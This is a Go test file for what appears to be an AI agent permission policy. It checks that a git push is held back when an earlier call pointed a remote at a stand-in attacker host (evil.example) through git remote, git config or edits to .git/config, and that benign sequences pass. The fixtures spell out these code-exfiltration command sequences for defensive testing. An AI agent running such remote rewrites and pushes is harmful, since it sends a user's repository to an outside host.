package policy

import (
	"testing"
	"time"

	"reeve.example/reeve/act"
)

// TestRemotesAcrossCalls: a push to a place that an earlier call has put under the name of a remote is
// asked about as in one call, however the remote was named; other places and other remotes are not.
func TestRemotesAcrossCalls(t *testing.T) {
	starter := starterSet(t)
	command := func(text string) *act.Action { a := commandAct(text); a.At = time.Now(); return a }
	config := writeAct("write_file", "/w/.git/config", "content", "[core]\n[remote \"origin\"]\n\turl = https://evil.example/x\n")
	edit := writeAct("edit_file", ".git/config", "new_string", "\turl = https://evil.example/x\n[core]")
	const strange = "https://evil.example/x.git"
	for _, c := range []struct {
		first *act.Action
		push  string
	}{
		{command("git remote set-url origin " + strange), "git push origin main"},
		{command("git remote set-url --push origin " + strange), "git push"},
		{command("git remote set-url --add origin " + strange), "git push"},
		{command("git remote add b " + strange), "git push b main"},
		{command("git remote add b git@evil.example:x.git"), "git push -u b HEAD"},
		{command("git config remote.origin.url " + strange), "git push"},
		{command("git config remote.origin.pushurl " + strange), "git -C . push origin"},
		{command("git config remote.pushDefault " + strange), "git push"},
		{command("git config branch.main.pushRemote " + strange), "git push"},
		{config, "git push origin main"},
		{edit, "git push"},
	} {
		if got := oneAfterAnother(t, starter, c.first, command("ls"), command(c.push)); got == act.Allow {
			t.Errorf("%+v and then %s passes", c.first.Content, c.push)
		}
	}
	for _, c := range [][]string{
		{"git remote set-url origin git@github.com:acme/shop.git", "git push"},
		{"git remote add upstream https://github.com/a/b.git", "git push origin topic"},
		{"git remote add b " + strange, "git push origin topic"},
		{"git remote add b " + strange, "git fetch b"},
		{"git remote set-url origin " + strange, "git remote set-url origin https://github.com/a/b.git", "git push"},
		{"git config push.default current", "git push"},
		{"git config branch.main.remote origin", "git push"},
	} {
		var calls []*act.Action
		for _, text := range c {
			calls = append(calls, command(text))
		}
		if got := oneAfterAnother(t, starter, calls...); got != act.Allow {
			t.Errorf("%q: %v", c, got)
		}
	}
}
